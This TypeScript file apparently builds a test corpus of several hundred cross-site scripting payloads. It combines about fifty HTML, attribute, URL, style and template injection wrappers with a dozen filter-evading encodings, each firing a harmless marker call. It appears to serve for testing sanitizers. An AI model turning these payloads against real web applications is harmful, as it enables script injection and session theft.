/** Code of each payload; the story hears of it when it runs. */
const RUN = 'ran()';

/** Places where text becomes code: an element, an attribute, an address, a style, a template, a way out of one. */
const SHELLS: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror="${run}">`,
  (run) => `'><img src=x onerror='${run}'>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src="javascript:parent.${run}">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `<form action="javascript:${run}"><button>here</button></form>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${run})}">`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `<div style="background:url(javascript:${run})">`,
  (run) => `<div style="animation-name:x" onanimationstart=${run}>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => `" autofocus onfocus="${run}`,
  (run) => `' onmouseover='${run}`,
  (run) => `\`-${run}-\``,
  (run) => `'-${run}-'`,
  (run) => `"-${run}-"`,
  (run) => `\${${run}}`,
  (run) => `{{${run}}}`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `--></style></title></textarea></noscript><img src=x onerror=${run}>`,
  (run) => `]]></script><script>${run}//`,
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `<a href="&#106;avascript:${run}">here</a>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=9>here</text></a></svg>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<button popovertarget=x>here</button><i popover id=x ontoggle=${run}>`,
  (run) => `<isindex type=image src=x onerror=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<x contenteditable autofocus onfocus=${run}>`,
];

const escaped = (text: string, spell: (code: number) => string) =>
  [...text].map((character) => spell(character.codePointAt(0) ?? 0)).join('');

/** Other spellings, which a filter may not recognise and a second reading may. */
const SPELLINGS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase().replaceAll('RAN()', RUN).replaceAll('PARENT.', 'parent.'),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) =>
    payload.replaceAll(
      RUN,
      escaped(RUN, (code) => `&#${code};`),
    ),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
  (payload) => payload.replaceAll(' ', '\t'),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll('<', '＜'),
  (payload) => `<<${payload}`,
  (payload) => payload.replaceAll('<', '<x '),
  (payload) => `\u202e${payload}\u200b`,
];

/** Over 500 texts that would run `ran()` in a page that took one for more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(SHELLS.flatMap((shell) => SPELLINGS.map((spell) => spell(shell(RUN))))),
];

/** All of them, in as few texts as a limit of characters allows. */
export function hostileTexts(longest: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of HOSTILE_TEXTS) {
    if (text.length + 1 + payload.length > longest) {
      texts.push(text);
      text = '';
    }
    text += `${text && '\n'}${payload}`;
  }
  return [...texts, text];
}
